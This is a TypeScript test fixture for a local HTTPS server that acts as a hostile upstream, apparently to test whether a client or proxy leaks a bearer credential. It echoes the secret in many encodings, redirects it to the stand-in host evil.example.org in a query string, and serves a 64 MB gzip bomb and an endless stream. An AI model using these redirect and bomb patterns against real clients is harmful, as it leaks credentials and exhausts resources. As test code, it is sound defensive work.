/** A server of our own that means ill: one path a trick. Over TLS; a scripted resolver leads names here. */
import { createServer, type Server } from "node:https";
import type { AddressInfo } from "node:net";
import { gzipSync } from "node:zlib";
import { certificate } from "./certificate.ts";

const { key, cert } = certificate(["api.example.org", "evil.example.org", "localhost"]);
export const CA = cert;

type Seen = {
  readonly method: string;
  readonly url: string;
  readonly headers: NodeJS.Dict<string | string[]>;
  body: string;
};
export type Upstream = { readonly port: number; readonly seen: Seen[]; close(): Promise<void> };

/** The credential in every form that an echo may take. */
export const ECHOES: Readonly<Record<string, (secret: string) => string | Buffer>> = {
  raw: (s) => `you sent ${s} to me`,
  base64: (s) => `x${Buffer.from(`Bearer ${s}`).toString("base64")}`,
  base64_bare: (s) => Buffer.from(s).toString("base64"),
  base64_shifted: (s) => Buffer.from(`ab${s}cd`).toString("base64"),
  base64url: (s) => Buffer.from(`\u00ff${s}\u00ff`).toString("base64url"),
  hex: (s) => Buffer.from(s).toString("hex"),
  hex_upper: (s) => Buffer.from(s).toString("hex").toUpperCase(),
  percent: (s) => [...Buffer.from(s)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join(""),
  percent_some: (s) => encodeURIComponent(s),
  json: (s) => JSON.stringify({ it: s }),
  json_escaped: (s) => `"${[...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("")}"`,
  reversed: (s) => [...s].reverse().join(""),
  gzip: (s) => gzipSync(`inside: ${s}`),
  base64_of_gzip: (s) => gzipSync(`inside: ${s}`).toString("base64"),
  html: (s) => [...s].map((c) => `&#${c.charCodeAt(0)};`).join(""),
};

export async function upstream(): Promise<Upstream> {
  const seen: Seen[] = [];
  const server: Server = createServer({ key, cert }, (request, response) => {
    const entry: Seen = { method: request.method ?? "", url: request.url ?? "", headers: request.headers, body: "" };
    seen.push(entry);
    request.on("data", (chunk: Buffer) => (entry.body += chunk.toString()));
    request.on("end", () => answer(entry, response));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: (server.address() as AddressInfo).port,
    seen,
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}

type Reply = Parameters<NonNullable<Parameters<typeof createServer>[1]>>[1];

function answer({ url, headers, body }: Seen, response: Reply): unknown {
  const path = new URL(url, "https://x").pathname;
  const secret = String(headers["authorization"] ?? "").replace(/^Bearer /, "") || body;
  const [, trick = "", form = ""] = path.split("/");
  switch (trick) {
    case "echo":
      response.setHeader("content-type", form === "gzip" ? "application/octet-stream" : "text/plain; charset=utf-8");
      response.setHeader("x-echo", secret.replaceAll(/[^\x20-\x7e]/g, ""));
      return response.end(ECHOES[form]?.(secret));
    case "zipped":
      response.setHeader("content-encoding", "gzip");
      response.setHeader("content-type", "text/plain");
      return response.end(gzipSync(`zipped ${secret}`));
    case "split":
      response.setHeader("content-type", "text/plain");
      response.write(`one ${secret.slice(0, 5)}`);
      return setTimeout(() => response.end(`${secret.slice(5)} two`), 20);
    case "redirect":
      return response.writeHead(302, { location: `https://evil.example.org/?k=${secret}` }).end();
    case "forever": {
      response.setHeader("content-type", "text/plain");
      const more = (): void => {
        while (!response.destroyed && response.write("x".repeat(65_536)));
        if (!response.destroyed) response.once("drain", more);
      };
      return more();
    }
    case "bomb":
      response.setHeader("content-encoding", "gzip");
      return response.end(gzipSync(Buffer.alloc(64 * 1024 * 1024)));
    case "silent":
      return null;
    case "broken":
      response.setHeader("content-length", "1000");
      response.write("not all");
      return setTimeout(() => response.destroy(), 10);
    default:
      response.setHeader("content-type", "application/json");
      return response.end(JSON.stringify({ ok: true, path }));
  }
}
